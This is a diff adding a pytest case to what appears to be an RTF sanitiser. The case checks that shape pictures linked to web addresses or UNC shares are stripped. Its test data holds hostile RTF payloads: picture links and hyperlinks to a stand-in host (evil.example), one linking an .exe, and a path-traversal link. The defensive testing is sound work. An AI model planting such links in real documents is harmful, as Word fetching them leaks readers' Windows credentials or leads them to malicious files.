@@ -176,6 +176,30 @@ def test_hyperlink_to_a_bookmark_is_no_finding(tmp_path: Path, inst: bytes) -> N
     assert out.read_bytes() == data
 
 
+@pytest.mark.parametrize(("value", "gone"), [
+    (rb"http://evil.example/a.png", True),
+    (rb"\\\\evil.example\\share\\a.png", True),          # a share: \\host\share
+    (rb"file:///c:/pictures/a.png", True),
+    (rb"C:\\Users\\me\\Pictures\\a.png", False),        # where it came from, locally
+    (rb"image001.png", False),
+])
+def test_picture_linked_to_a_web_address_or_share_goes(tmp_path: Path, value: bytes,
+                                                        gone: bool) -> None:
+    """A shape whose picture is linked (pibName, pibFlags 10): Word loads it from there
+    when the document opens, and a share gets the reader's Windows credentials. Found
+    by a probe beside LibreOffice's RTF test documents; it passed as clean."""
+    prop = rb"{\sp{\sn pibName}{\sv " + value + rb"}}"
+    data = (rb"{\rtf1\ansi{\shp{\*\shpinst\shpleft0\shptop0\shpright100\shpbottom100"
+            rb"{\sp{\sn shapeType}{\sv 75}}" + prop + rb"{\sp{\sn pibFlags}{\sv 10}}}}"
+            rb"text\par}")
+    report, out = disarm(tmp_path, data)
+    if gone:
+        assert triples(report) == [("rtf.linked_picture", "picture[0]", "removed")]
+        assert out.read_bytes() == data.replace(prop, b"")
+    else:
+        assert triples(report) == [] and out.read_bytes() == data
+
+
 @pytest.mark.parametrize("inst", [
     rb'HYPERLINK "file://evil.example/share/x.exe"' + _DATAFIELD,
     rb'HYPERLINK "#x/../../evil.exe"',
